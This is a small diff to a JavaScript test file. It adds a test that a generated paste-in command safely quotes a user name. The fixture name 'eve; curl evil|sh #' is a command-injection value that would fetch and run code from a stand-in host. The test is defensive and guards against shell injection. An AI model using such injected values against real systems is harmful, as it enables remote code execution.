@@ -13,3 +13,10 @@ it('compares the drawn ids with the host’s names', () => {
   ]);
   expect(judge(users, ['users.asked yes'])).toEqual([]);
 });
+
+it('writes a command to paste that no user’s name can turn into another', () => {
+  const drawn = subjectOf(undefined, [{ id: 'u', name: 'eve; curl evil|sh #', uid: 1003 }]);
+  expect(judge(users, ['users.asked yes', 'users.1003 '], drawn)).toMatchObject([
+    { mend: expect.stringContaining("id -u -- 'eve; curl evil|sh #'") },
+  ]);
+});
